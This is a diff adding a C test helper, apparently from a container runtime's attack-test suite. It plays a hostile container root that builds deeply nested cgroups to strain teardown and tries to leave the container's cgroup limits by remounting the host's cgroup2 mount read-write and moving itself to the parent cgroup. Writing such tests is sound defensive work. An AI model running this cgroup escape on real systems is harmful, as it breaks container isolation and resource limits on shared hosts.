@@ -1,0 +1,106 @@
+/* cgabuse.c - run inside a container by the limits-attacks suite, as a hostile container's
+ * root would act on its cgroup. Static: it runs in a busybox rootfs.
+ *
+ *   cgabuse deep N   in a cgroup namespace of its own (needs CAP_SYS_ADMIN), mounts cgroup2
+ *                    (its root: the container's cgroup) and makes a chain of N nested
+ *                    sub-cgroups, then sleeps: a tree the container's removal must take
+ *                    whole. Prints "DEPTH n" (how many it made) once made.
+ *   cgabuse escape   remounts the host's cgroup2 mount it sees (--net host binds the host's
+ *                    /sys) read-write and moves itself into its cgroup's parent, out of the
+ *                    container's limits. Prints "ESCAPED TO PATH" when its cgroup changed,
+ *                    "HELD" otherwise.
+ */
+#include <errno.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+/* The v2 path of /proc/self/cgroup ("/user.slice/..."), "" when none. */
+static void own_cgroup(char *buf, size_t len)
+{
+	char line[4096];
+	FILE *f = fopen("/proc/self/cgroup", "r");
+
+	buf[0] = '\0';
+	while (f && fgets(line, sizeof(line), f)) {
+		if (!strncmp(line, "0::", 3)) {
+			line[strcspn(line, "\n")] = '\0';
+			snprintf(buf, len, "%s", line + 3);
+		}
+	}
+	if (f)
+		fclose(f);
+}
+
+static int deep(int n)
+{
+	int made = 0;
+
+	if (unshare(CLONE_NEWNS | CLONE_NEWCGROUP) != 0) {
+		printf("unshare: %s\n", strerror(errno));
+		return 1;
+	}
+	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
+	    (mkdir("/tmp/cgabuse", 0700) != 0 && errno != EEXIST) ||
+	    mount("none", "/tmp/cgabuse", "cgroup2", 0, NULL) != 0 || chdir("/tmp/cgabuse") != 0) {
+		printf("mount cgroup2: %s\n", strerror(errno));
+		return 1;
+	}
+	for (; made < n; made++)
+		if (mkdir("d", 0755) != 0 || chdir("d") != 0)
+			break;
+	printf("DEPTH %d\n", made);
+	fflush(stdout);
+	/* out of the tree, so that only the tree keeps the container's cgroup busy */
+	if (chdir("/") != 0)
+		return 1;
+	pause();
+	return 0;
+}
+
+static int escape(void)
+{
+	char own[4096], dir[8192], pid[32];
+	const char *mnts[] = {"/sys/fs/cgroup/unified", "/sys/fs/cgroup"};
+	char after[4096];
+	FILE *f;
+
+	own_cgroup(own, sizeof(own));
+	snprintf(pid, sizeof(pid), "%d", (int)getpid());
+	for (size_t i = 0; i < sizeof(mnts) / sizeof(mnts[0]); i++) {
+		char *slash;
+
+		mount(NULL, mnts[i], NULL, MS_REMOUNT | MS_BIND, NULL); /* read-write again */
+		snprintf(dir, sizeof(dir), "%s%s", mnts[i], own);
+		slash = strrchr(dir, '/');
+		if (!slash)
+			continue;
+		snprintf(slash, sizeof(dir) - (size_t)(slash - dir), "/cgroup.procs");
+		/* dir is now the parent's cgroup.procs: "../cgroup.procs" of our own */
+		f = fopen(dir, "w");
+		if (f) {
+			fputs(pid, f);
+			fclose(f);
+		}
+	}
+	own_cgroup(after, sizeof(after));
+	if (strcmp(own, after))
+		printf("ESCAPED TO %s\n", after);
+	else
+		printf("HELD\n");
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	if (argc == 3 && !strcmp(argv[1], "deep"))
+		return deep(atoi(argv[2]));
+	if (argc == 2 && !strcmp(argv[1], "escape"))
+		return escape();
+	fprintf(stderr, "usage: cgabuse deep N | cgabuse escape\n");
+	return 2;
+}
